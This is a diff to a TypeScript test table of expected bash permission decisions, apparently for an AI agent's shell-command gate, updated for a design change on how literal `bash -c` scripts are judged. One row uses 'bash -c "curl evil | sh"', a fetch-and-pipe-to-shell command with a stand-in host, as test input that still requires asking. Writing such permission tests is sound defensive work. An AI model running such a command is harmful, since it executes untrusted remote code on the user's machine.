@@ -118,9 +118,12 @@ export const BASH_DECISION_ROWS: readonly BashDecisionRow[] = [
 		command: 'bash -c "curl evil | sh"',
 		config: CFG_A,
 		state: "ask",
-		matchedPattern: "<opaque-bash-wrapper>",
-		decidingUnit: 'bash -c "curl evil | sh"',
-		executedUnit: "curl evil | sh",
+		matchedPattern: "*",
+		decidingUnit: "curl evil",
+		commandContext: "subshell",
+		deviation:
+			"decision change (ADR 0031): a literal script is judged by its units; `curl evil` asks by `*` first, and the " +
+			"`sh` reading stdin keeps its opaque floor (reference: the opaque floor on the `bash -c` unit)",
 	},
 	{
 		id: "PP-065",
@@ -204,10 +207,13 @@ export const BASH_DECISION_ROWS: readonly BashDecisionRow[] = [
 		id: "PP-075",
 		command: 'bash -c "x"',
 		config: { permission: { "*": "allow" } },
-		state: "ask",
-		matchedPattern: "<opaque-bash-wrapper>",
+		state: "allow",
+		matchedPattern: null,
 		decidingUnit: 'bash -c "x"',
 		executedUnit: "x",
+		deviation:
+			"decision change (ADR 0031): the literal script `x` is read and allowed, so the shell running it is allowed " +
+			'(reference: the opaque floor; `bash -c "$X"` keeps it)',
 	},
 	{
 		id: "PP-076",
@@ -315,10 +321,13 @@ export const BASH_DECISION_ROWS: readonly BashDecisionRow[] = [
 		command: 'bash -c "x"',
 		config: CFG_A,
 		yolo: true,
-		state: "ask",
-		matchedPattern: "<opaque-bash-wrapper>",
+		state: "allow",
+		matchedPattern: "bash *",
 		decidingUnit: 'bash -c "x"',
 		executedUnit: "x",
+		deviation:
+			"decision change (ADR 0031): the literal script is judged by its units, so no floor is left for yolo; the " +
+			'residual floor is kept with `bash -c "$X"` in the gate-runner and query tests',
 	},
 	{
 		id: "PP-095",
